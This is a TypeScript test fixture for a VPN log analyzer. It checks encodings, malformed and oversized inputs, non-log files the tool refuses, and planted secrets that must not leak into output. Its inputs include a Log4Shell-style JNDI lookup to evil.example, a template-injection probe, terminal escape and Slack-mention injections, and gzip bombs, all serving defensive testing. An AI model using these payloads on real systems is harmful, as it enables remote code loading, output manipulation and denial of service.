// What people hand over as a log: every format, encoding and disguise; planted keys must not come back out.
import { randomBytes } from 'node:crypto';
import { mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { analyzeLog } from '../../src/cli/analyzeLog.js';
import { outcomeOf, scratch } from './command.js';
import { type Input, type InputClass, planted } from './input.js';

const mb = 1024 * 1024;
const line = '05[IKE] <gw-a|3> received AUTHENTICATION_FAILED notify error';
const good = [
  'Nov 21 04:00:01 gw charon: 05[IKE] <gw-a|3> initiating IKE_SA gw-a[3] to 203.0.113.9',
  'Nov 21 04:00:02 gw charon: 05[IKE] <gw-a|3> received AUTHENTICATION_FAILED notify error',
].join('\n');

/** A color, a title, a bell: what a terminal would obey. */
const terminalCommands = new RegExp(['\u001b\\[31m', '\u001b\\]', '\u0007'].join('|'));

/** Files that are read, whatever else they hold. */
const read: Readonly<Record<string, string | Buffer>> = {
  ordinary: good,
  'without an end of line': line,
  'with CRLF': good.replaceAll('\n', '\r\n'),
  'with CR alone': good.replaceAll('\n', '\r'),
  'with a byte order mark': `\uFEFF${good}`,
  'UTF-16 little endian': Buffer.from(`\uFEFF${good}`, 'utf16le'),
  'UTF-16 big endian': Buffer.from(`\uFEFF${good}`, 'utf16le').swap16(),
  'UTF-16 without a mark': Buffer.from(good, 'utf16le'),
  'Latin-1': Buffer.from(`${good}\n# Überprüfung`, 'latin1'),
  'one word': 'hello',
  'blank lines': '\n'.repeat(10_000),
  'a novel': 'It was a dark and stormy night.\n'.repeat(500),
  'one line of 8 MB': `${line} ${'x'.repeat(8 * mb)}`,
  'a line of 8 MB between others': `${good}\n${'x'.repeat(8 * mb)}\n${good}`,
  '200,000 lines': `${line}\n`.repeat(200_000),
  '60,000 different failures': Array.from({ length: 60_000 }, (_, at) =>
    line.replace('gw-a|3', `gw-${at}|${at}`),
  ).join('\n'),
  'newest first': good.split('\n').toReversed().join('\n'),
  'two vendors': `${good}\n%ASA-4-713903: Group = 203.0.113.9, IP = 203.0.113.9, Information Exchange processing failed`,
  'JSON lines': JSON.stringify({ MESSAGE: line, __REALTIME_TIMESTAMP: '1' }),
  'a JSON array': JSON.stringify([{ message: line }]),
  'a broken JSON array': '[{"message": "x"},',
  'JSON ten thousand deep': '['.repeat(10_000),
  CSV: `time,message\n2026-11-21T04:00:00Z,"${line}"`,
  'CSV with a quote that never ends': `time,message\n1,"${line}\n`.repeat(500),
  'terminal colors': `\u001b[31m${line}\u001b[0m`,
  'a window title': `\u001b]0;owned\u0007${line}`,
  'a hyperlink of a terminal': `\u001b]8;;http://evil.example\u0007${line}\u001b]8;;\u0007`,
  'right-to-left marks': `\u202e${line}\u202c`,
  'mentions of Slack': `${line} <!channel> <@U123> <http://evil.example|click>`,
  'names of prototypes': `05[IKE] <__proto__|3> received AUTHENTICATION_FAILED notify error\n05[IKE] <constructor|4> authentication of 'toString' failed`,
  'a name of 100 KB': line.replace('gw-a', 'g'.repeat(100_000)),
  'a peer of 100 KB': `05[IKE] <a|1> initiating IKE_SA a[1] to ${'1'.repeat(100_000)}`,
  'proposals without end': `05[CFG] received proposals: ${'IKE:AES_CBC_256/HMAC_SHA2_256_128/PRF_HMAC_SHA2_256/MODP_2048, '.repeat(20_000)}`,
  'selectors without end': `05[CFG] proposing traffic selectors for us: ${'10.0.0.0/8 '.repeat(50_000)}`,
  'brackets alone': '[[[['.repeat(200_000),
  'digits alone': '1'.repeat(2 * mb),
  'blanks alone': ' '.repeat(2 * mb),
  'dates that do not exist': `Feb 31 25:61:61 gw charon: ${line}\n9999-99-99T99:99:99Z ${line}`,
  'a year of long ago': `0001-01-01T00:00:00Z ${line}`,
  'template words': `${line} {{7*7}} \${jndi:ldap://evil.example/a} {count}`,
  'gzip of a log': gzipSync(good),
  'gzip in two members': Buffer.concat([gzipSync(`${good}\n`), gzipSync(good)]),
};

/** Files that are no log, each refused in one sentence. */
const refused: Readonly<Record<string, Buffer>> = {
  'a picture': Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), randomBytes(4000)]),
  'a packet capture': Buffer.concat([
    Buffer.from('d4c3b2a1020004000000000000000000', 'hex'),
    randomBytes(5000),
  ]),
  'a zip file': Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(4000)]),
  'a program': Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(4000)]),
  'zero bytes': Buffer.alloc(5000),
  noise: randomBytes(100_000),
  'gzip that is damaged': gzipSync(good).fill(0xff, 12, 30),
  'gzip that is cut off': gzipSync(`${line}\n`.repeat(50_000)).subarray(0, 300),
  'gzip of a picture': gzipSync(randomBytes(50_000)),
  'gzip of gzip': gzipSync(gzipSync(good)),
  'a gzip head alone': Buffer.from([0x1f, 0x8b]),
  'a gzip bomb of zeros': gzipSync(Buffer.alloc(200 * mb)),
  'a gzip bomb of text': gzipSync(Buffer.alloc(200 * mb, 'x')),
};

/** Ways in which keys stand in what people paste. */
const telling: readonly string[] = [
  `ipsec.secrets: @gw : PSK "${planted.psk}"`,
  `secret = ${planted.psk}`,
  `pre-shared-key ${planted.psk}`,
  `set security ike policy p pre-shared-key ascii-text "${planted.psk}"`,
  `crypto isakmp key ${planted.psk} address 203.0.113.9`,
  `<pre_shared_key>${planted.psk}</pre_shared_key>`,
  `charon: 05[CFG] loaded IKE secret for gw: ${planted.psk}`,
  `password=${planted.password}`,
  `api_key: ${planted.apiKey}`,
  `SLACK_BOT_TOKEN=${planted.token}`,
  `https://ops:${planted.password}@vpn.example/config`,
  `set psksecret ${planted.psk}`,
];

export async function logFiles(): Promise<InputClass> {
  const files = scratch();
  const analyzed = (path: string) => outcomeOf(() => analyzeLog([path]));
  const folder = join(files.folder, 'folder.log');
  mkdirSync(folder);
  const inputs: Input[] = [
    ...Object.entries(read).map(([name, content]) => ({
      name,
      says: /Cause|Confidence|lines known/,
      // A log that moves the terminal or speaks to a channel would not be "read".
      never: terminalCommands,
      give: () => analyzed(files.file('given.log', content)),
    })),
    ...Object.entries(refused).map(([name, content]) => ({
      name,
      says: /cannot be read as a log: /,
      exits: [2],
      give: () => analyzed(files.file('given.log', content)),
    })),
    ...telling.map((secret, index) => ({
      name: `a key beside a failure, form ${index + 1}`,
      says: /lines known/,
      give: () => analyzed(files.file('given.log', `${good}\n${secret}\n${line} ${secret}\n`)),
    })),
    { name: 'empty', says: /Cause|empty/, give: () => analyzed(files.file('given.log', '')) },
    { name: 'a folder', says: /it is a folder/, exits: [2], give: () => analyzed(folder) },
    {
      name: 'nothing there',
      says: /is not there/,
      exits: [2],
      give: () => analyzed(join(files.folder, 'none')),
    },
  ];
  return { inputs, close: async () => files.remove() };
}
